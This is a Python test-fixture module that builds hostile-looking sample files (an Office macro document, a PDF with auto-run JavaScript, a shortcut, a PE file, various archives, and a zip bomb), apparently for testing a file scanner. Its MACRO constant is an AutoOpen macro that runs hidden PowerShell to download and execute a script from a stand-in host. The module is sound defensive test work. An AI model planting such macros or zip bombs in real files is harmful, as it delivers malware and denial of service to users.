"""Hostile-looking files the tests build themselves, byte by byte from the
formats' specifications (MS-CFB and MS-OVBA for an Office macro document,
MS-OXTNEF for winmail.dat, MS-SHLLINK for a shortcut, PE/COFF, PDF 1.7,
RAR 1.5) or with Debian's own tools (7z, genisoimage, gcab): nothing in
them runs, and nothing is fetched."""

import hashlib
import io
import shutil
import struct
import subprocess
import tempfile
import zipfile
import zlib
from pathlib import Path

from tests.process import require

# The macro of the Office sample: what olevba must find in it.
MACRO = (
    'Attribute VB_Name = "Module1"\r\n'
    "Sub AutoOpen()\r\n"
    "    Dim s As String\r\n"
    '    s = "powershell -w hidden -c IEX (New-Object Net.WebClient).DownloadString('
    "'http://198.51.100.7/p.ps1')\"\r\n"
    "    Shell s, vbHide\r\n"
    "End Sub\r\n")
MACRO_URL = "http://198.51.100.7/p.ps1"


def run(*command, cwd=None, input=None):
    """Run a tool that must be installed (Debian; see .ci/run); its output."""
    require(command[0])
    return subprocess.run(command, cwd=cwd, input=input, capture_output=True, check=True,
                          timeout=60).stdout


def sha256(data):
    return hashlib.sha256(data).hexdigest()


# MS-OVBA: the compression of VBA streams (literal tokens only) and a
# VBA project.

def ovba_compress(data):
    """A CompressedContainer of *data* (at most 3,640 bytes: one chunk of
    literal tokens, each sequence of eight behind a flag byte 0)."""
    assert len(data) <= 3640
    body = b"".join(b"\x00" + data[i:i + 8] for i in range(0, len(data), 8))
    return b"\x01" + struct.pack("<H", 0xB000 | (len(body) - 1)) + body


def _record(ident, data):
    return struct.pack("<HI", ident, len(data)) + data


def vba_dir(module="Module1"):
    """The decompressed ``dir`` stream of a project with one module whose
    source starts at offset 0 of its stream."""
    name = module.encode("ascii")
    return b"".join([
        _record(0x0001, struct.pack("<I", 1)),              # SYSKIND: 32-bit Windows
        _record(0x0002, struct.pack("<I", 0x409)),          # LCID
        _record(0x0014, struct.pack("<I", 0x409)),          # LCIDINVOKE
        _record(0x0003, struct.pack("<H", 1252)),           # CODEPAGE
        _record(0x0004, b"VBAProject"),                     # NAME
        _record(0x0005, b"") + _record(0x0040, b""),        # DOCSTRING
        _record(0x0006, b"") + _record(0x003D, b""),        # HELPFILEPATH
        _record(0x0007, struct.pack("<I", 0)),              # HELPCONTEXT
        _record(0x0008, struct.pack("<I", 0)),              # LIBFLAGS
        struct.pack("<HIIH", 0x0009, 4, 1, 0),              # VERSION
        _record(0x000C, b"") + _record(0x003C, b""),        # CONSTANTS
        struct.pack("<HIH", 0x000F, 2, 1),                  # MODULES: one
        _record(0x0013, struct.pack("<H", 0xFFFF)),         # COOKIE
        _record(0x0019, name),                              # MODULENAME
        _record(0x0047, module.encode("utf-16-le")),
        _record(0x001A, name) + _record(0x0032, module.encode("utf-16-le")),
        _record(0x001C, b"") + _record(0x0048, b""),        # MODULEDOCSTRING
        _record(0x0031, struct.pack("<I", 0)),              # MODULEOFFSET
        _record(0x001E, struct.pack("<I", 0)),              # MODULEHELPCONTEXT
        _record(0x002C, struct.pack("<H", 0xFFFF)),         # MODULECOOKIE
        _record(0x0021, b""),                               # MODULETYPE: procedural
        _record(0x002B, b""),                               # module terminator
        _record(0x0010, b""),                               # dir terminator
    ])


def word_document(macro=MACRO):
    """A Word 97-2003 document (an OLE compound file) with the VBA
    project of *macro* in its Macros storage."""
    project = (b'ID="{00000000-0000-0000-0000-000000000000}"\r\nModule=Module1\r\n'
               b'Name="VBAProject"\r\nHelpContextID="0"\r\n')
    return compound_file({
        "WordDocument": b"\xec\xa5\xc1\x00" + bytes(508),
        "Macros/PROJECT": project,
        "Macros/VBA/_VBA_PROJECT": b"\x61\xcc\xff\xff\x00\x00\x00",
        "Macros/VBA/dir": ovba_compress(vba_dir()),
        "Macros/VBA/Module1": ovba_compress(macro.encode("cp1252")),
    })


# MS-CFB: a compound file, version 3 (512-byte sectors), with a mini stream.

_FREE, _END, _FAT = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD


def compound_file(streams):
    """An OLE compound file holding *streams* ({"Storage/Stream": bytes})."""
    root = {"name": "Root Entry", "type": 5, "children": {}}
    for path, data in streams.items():
        node = root
        *storages, name = path.split("/")
        for storage in storages:
            node = node["children"].setdefault(
                storage, {"name": storage, "type": 1, "children": {}})
        node["children"][name] = {"name": name, "type": 2, "data": data}
    order = [root]
    for node in order:
        order.extend(sorted(node.get("children", {}).values(),
                            key=lambda n: (len(n["name"]), n["name"].upper())))
    index = {id(node): i for i, node in enumerate(order)}

    mini, mini_fat = bytearray(), []
    big = [n for n in order if n["type"] == 2 and len(n["data"]) >= 4096]
    for node in order:
        if node["type"] == 2 and len(node["data"]) < 4096:
            count = -(-len(node["data"]) // 64)
            node["start"] = len(mini_fat) if count else _END
            mini_fat += [len(mini_fat) + i + 1 for i in range(count - 1)] + [_END] * bool(count)
            mini += node["data"].ljust(count * 64, b"\x00")
    sectors = lambda size: -(-size // 512)  # noqa: E731
    n_dir, n_minifat = sectors(128 * len(order)), sectors(4 * len(mini_fat))
    n_mini, n_big = sectors(len(mini)), sum(sectors(len(n["data"])) for n in big)
    n_fat = 1
    while n_fat * 128 < n_fat + n_dir + n_minifat + n_mini + n_big:
        n_fat += 1
    fat = [_FAT] * n_fat
    chains = {}

    def chain(count):
        start = len(fat)
        fat.extend(start + i + 1 for i in range(count - 1))
        fat.append(_END)
        return start

    chains["dir"] = chain(n_dir)
    chains["minifat"] = chain(n_minifat) if n_minifat else _END
    chains["mini"] = chain(n_mini) if n_mini else _END
    for node in big:
        node["start"] = chain(sectors(len(node["data"])))
    fat += [_FREE] * (n_fat * 128 - len(fat))

    def entry(node):
        name = node["name"].encode("utf-16-le") + b"\x00\x00"
        kids = sorted(node.get("children", {}).values(),
                      key=lambda n: (len(n["name"]), n["name"].upper()))
        child = index[id(kids[0])] if kids else _FREE
        right = _FREE
        siblings = node.get("siblings")
        if siblings:
            right = siblings
        if node["type"] == 5:
            start, size = chains["mini"], len(mini)
        elif node["type"] == 2:
            start, size = node["start"], len(node["data"])
        else:
            start, size = 0, 0
        return (name.ljust(64, b"\x00") + struct.pack("<HBB", len(name), node["type"], 1)
                + struct.pack("<III", _FREE, right, child) + bytes(16) + bytes(4)
                + bytes(16) + struct.pack("<IQ", start, size))

    for node in order:
        kids = sorted(node.get("children", {}).values(),
                      key=lambda n: (len(n["name"]), n["name"].upper()))
        for left, right in zip(kids, kids[1:]):
            left["siblings"] = index[id(right)]
    directory = b"".join(entry(node) for node in order)
    difat = list(range(n_fat)) + [_FREE] * (109 - n_fat)
    header = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16)
              + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + bytes(6)
              + struct.pack("<IIIIIIIII", 0, n_fat, chains["dir"], 0, 4096,
                            chains["minifat"], n_minifat, _END, 0)
              + struct.pack("<109I", *difat))
    body = struct.pack(f"<{len(fat)}I", *fat)
    body += directory.ljust(n_dir * 512, b"\x00")
    body += struct.pack(f"<{len(mini_fat)}I", *mini_fat).ljust(n_minifat * 512, b"\xff")
    body += bytes(mini).ljust(n_mini * 512, b"\x00")
    for node in big:
        body += node["data"].ljust(sectors(len(node["data"])) * 512, b"\x00")
    return header + body


# MS-OXTNEF: winmail.dat

def _tnef_attribute(level, ident, kind, data):
    return (struct.pack("<BHHI", level, ident, kind, len(data)) + data
            + struct.pack("<H", sum(data) & 0xFFFF))


def tnef(attachments):
    """A winmail.dat carrying *attachments* ({file name: bytes})."""
    out = struct.pack("<IH", 0x223E9F78, 0x0101)
    out += _tnef_attribute(1, 0x9006, 0x0008, struct.pack("<I", 0x00010000))  # version
    out += _tnef_attribute(1, 0x9007, 0x0006, struct.pack("<II", 1252, 0))   # codepage
    for name, data in attachments.items():
        out += _tnef_attribute(2, 0x9002, 0x0006, bytes(14))                 # renddata
        out += _tnef_attribute(2, 0x8010, 0x0001, name.encode("cp1252") + b"\x00")
        out += _tnef_attribute(2, 0x800F, 0x0006, data)
    return out


# MS-SHLLINK: a shortcut with a relative path, working directory and arguments

def shortcut(relative_path, arguments, working_dir="C:\\Windows\\System32"):
    def string(text):
        return struct.pack("<H", len(text)) + text.encode("utf-16-le")
    flags = 0x08 | 0x10 | 0x20 | 0x80  # relative path, working dir, arguments, unicode
    header = struct.pack(
        "<I16sII8s8s8sIIIH10s", 0x4C,
        bytes.fromhex("0114020000000000c000000000000046"), flags, 0x20,
        bytes(8), bytes(8), bytes(8), 0, 0, 7, 0, bytes(10))
    return header + string(relative_path) + string(working_dir) + string(arguments) \
        + bytes(4)


# PE/COFF: a 32-bit Windows program that imports kernel32!ExitProcess

def executable(timestamp=1700000000):
    """A minimal PE32 GUI program (never run: its code is one RET)."""
    rva = 0x1000
    # .text: code at 0, import descriptor at 0x40, ILT 0x80, IAT 0x90,
    # hint/name 0xA0, dll name 0xC0.
    section = bytearray(0x200)
    section[0] = 0xC3
    struct.pack_into("<IIIII", section, 0x40, rva + 0x80, 0, 0, rva + 0xC0, rva + 0x90)
    struct.pack_into("<I", section, 0x80, rva + 0xA0)
    struct.pack_into("<I", section, 0x90, rva + 0xA0)
    section[0xA0:0xA0 + 14] = b"\x00\x00ExitProcess\x00"
    section[0xC0:0xC0 + 13] = b"kernel32.dll\x00"
    dos = bytearray(0x40)
    dos[0:2] = b"MZ"
    struct.pack_into("<I", dos, 0x3C, 0x40)
    coff = struct.pack("<4sHHIIIHH", b"PE\x00\x00", 0x14C, 1, timestamp, 0, 0, 0xE0, 0x0102)
    optional = struct.pack(
        "<HBBIIIIIIIIIHHHHHHIIIIHHIIIIII", 0x10B, 14, 0, 0x200, 0, 0, rva, rva, rva,
        0x400000, 0x1000, 0x200, 6, 0, 0, 0, 6, 0, 0, 0x2000, 0x200, 0, 2, 0x8140,
        0x100000, 0x1000, 0x100000, 0x1000, 0, 16)
    directories = bytearray(16 * 8)
    struct.pack_into("<II", directories, 8, rva + 0x40, 40)
    header = struct.pack("<8sIIIIIIHHI", b".text", 0x200, rva, 0x200, 0x200, 0, 0, 0, 0,
                         0x60000020)
    head = bytes(dos) + coff + optional + bytes(directories) + header
    return head.ljust(0x200, b"\x00") + bytes(section)


# PDF: JavaScript run at opening, a link, an embedded file

def pdf(script, link, embedded_name, embedded):
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /Names << /JavaScript"
        b" << /Names [(init) 4 0 R] >> /EmbeddedFiles << /Names [("
        + embedded_name.encode() + b") 7 0 R] >> >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [6 0 R] >>",
        b"<< /Type /Action /S /JavaScript /JS (" + script.encode() + b") >>",
        b"<< /Type /EmbeddedFile /Length " + str(len(embedded)).encode()
        + b" >>\nstream\n" + embedded + b"\nendstream",
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /URI /URI ("
        + link.encode() + b") >> >>",
        b"<< /Type /Filespec /F (" + embedded_name.encode() + b") /UF ("
        + embedded_name.encode() + b") /EF << /F 5 0 R >> >>",
    ]
    out, offsets = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1, xref)
    return out


# RAR 1.5-4.x: an archive of stored (uncompressed) files

def rar(files):
    def block(kind, flags, fields, extra=b""):
        body = struct.pack("<BHH", kind, flags, 7 + len(fields)) + fields
        return struct.pack("<H", zlib.crc32(body) & 0xFFFF) + body + extra
    out = b"Rar!\x1a\x07\x00" + block(0x73, 0, bytes(6))
    for name, data in files.items():
        encoded = name.encode("ascii")
        fields = struct.pack("<IIBIIBBHI", len(data), len(data), 2, zlib.crc32(data),
                             0x5A6E0000, 20, 0x30, len(encoded), 0x20) + encoded
        out += block(0x74, 0x8000, fields, data)
    return out + block(0x7B, 0x4000, b"")


# Archives made by Debian's tools

def with_files(files, build):
    """Write *files* ({name: bytes}) into a fresh directory, call
    ``build(directory, names)`` there, and return the bytes of the file
    it names."""
    directory = Path(tempfile.mkdtemp())
    try:
        for name, data in files.items():
            (directory / name).parent.mkdir(parents=True, exist_ok=True)
            (directory / name).write_bytes(data)
        return (directory / build(directory, list(files))).read_bytes()
    finally:
        shutil.rmtree(directory, ignore_errors=True)


def seven_zip(files, kind="7z", password=None):
    """A 7z (or zip, with ``kind="zip"``) archive made by 7z, encrypted
    with *password* if given (ZipCrypto for zip, AES for 7z)."""
    def build(directory, names):
        run("7z", "a", f"-t{kind}", *([f"-p{password}"] if password else []),
            f"out.{kind}", *names, cwd=directory)
        return f"out.{kind}"
    return with_files(files, build)


def iso(files):
    def build(directory, names):
        run("genisoimage", "-quiet", "-J", "-R", "-o", "out.iso", *names, cwd=directory)
        return "out.iso"
    return with_files(files, build)


def cab(files):
    def build(directory, names):
        run("gcab", "-c", "-z", "out.cab", *names, cwd=directory)
        return "out.cab"
    return with_files(files, build)


def zip_bomb(megabytes=50):
    """A zip of one member of *megabytes* MB of zeros (deflate: about
    1,000 times smaller)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        with archive.open("zeros.bin", "w", force_zip64=True) as member:
            block = bytes(2**20)
            for _ in range(megabytes):
                member.write(block)
    return buffer.getvalue()


def listing_7z(data, password=None):
    """{name: size} of the files in the archive *data*, as ``7z l -slt``
    lists them (directories left out)."""
    with tempfile.NamedTemporaryFile() as f:
        f.write(data)
        f.flush()
        text = run("7z", "l", "-slt", *([f"-p{password}"] if password else ["-p-"]),
                   f.name).decode()
    found = {}
    for block in text.split("----------\n", 1)[-1].split("\n\n"):
        fields = dict(line.split(" = ", 1) for line in block.splitlines() if " = " in line)
        directory = fields.get("Folder") == "+" or "D" in fields.get("Attributes", "")[:1]
        if "Path" in fields and fields.get("Size", "") != "" and not directory:
            found[fields["Path"]] = int(fields["Size"])
    return found


def extract_7z(data, name, password=None):
    """The bytes of member *name* of the archive *data*, by ``7z x -so``."""
    with tempfile.NamedTemporaryFile() as f:
        f.write(data)
        f.flush()
        return run("7z", "x", "-so", *([f"-p{password}"] if password else ["-p-"]),
                   f.name, name)
